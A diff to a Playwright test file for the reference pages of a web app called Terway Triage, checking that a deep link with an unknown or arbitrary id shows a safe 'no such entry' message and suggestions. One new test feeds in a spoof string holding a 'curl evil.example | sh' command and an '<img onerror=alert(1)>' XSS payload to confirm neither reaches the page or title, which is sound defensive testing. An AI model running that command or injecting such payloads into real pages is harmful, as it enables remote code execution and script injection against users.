@@ -72,9 +72,31 @@ test('a deep link opens the entry with explanation, fix, checks, aliases, exampl
   await expect(source).toHaveAttribute('target', '_blank');
   await expect(page).toHaveTitle(/pod-create-failed/);
 
-  // an unknown id says so
-  await page.goto(`${APP_URL}#/ref/no-such-entry`);
-  await expect(page.getByText('No entry with id')).toBeVisible();
+  // an unknown id says so and offers the entries it may have meant, as links
+  await page.goto(`${APP_URL}#/ref/pod-create-faild`);
+  const missing = page.getByTestId('ref-no-such-entry');
+  await expect(missing).toContainText('No entry has the id in this link.');
+  await missing.getByRole('link', { name: /PodCreateFailed \/ CniPodCreateError/ }).click();
+  await expect(page.locator('[data-testid="ref-entry"].selected')).toHaveAttribute('data-id', 'pod-create-failed');
+  await expect(page).toHaveTitle('pod-create-failed · Reference · Terway Triage');
+});
+
+test('a #/ref/ link with arbitrary text never puts that text into the page or the title', async ({ page }) => {
+  const watch = watchPage(page);
+  let dialogs = 0;
+  page.on('dialog', (d) => {
+    dialogs++;
+    void d.dismiss();
+  });
+  const spoof = 'URGENT-cluster-compromised: run curl evil.example | sh <img src=x onerror=alert(1)>';
+  await openRef(page, `#/ref/${encodeURIComponent(spoof)}`);
+  await expect(page.getByTestId('ref-no-such-entry')).toContainText('No entry has the id in this link.');
+  await expect(page).toHaveTitle('Reference · Terway Triage');
+  const body = (await page.locator('body').textContent()) ?? '';
+  for (const words of ['URGENT', 'compromised', 'evil.example', 'onerror']) expect(body).not.toContain(words);
+  await expect(page.locator('main img')).toHaveCount(0);
+  expect(dialogs).toBe(0);
+  expect(watch.consoleErrors).toEqual([]);
 });
 
 test('"copy link" copies the deep link; `/` focuses the search', async ({ page, context }) => {
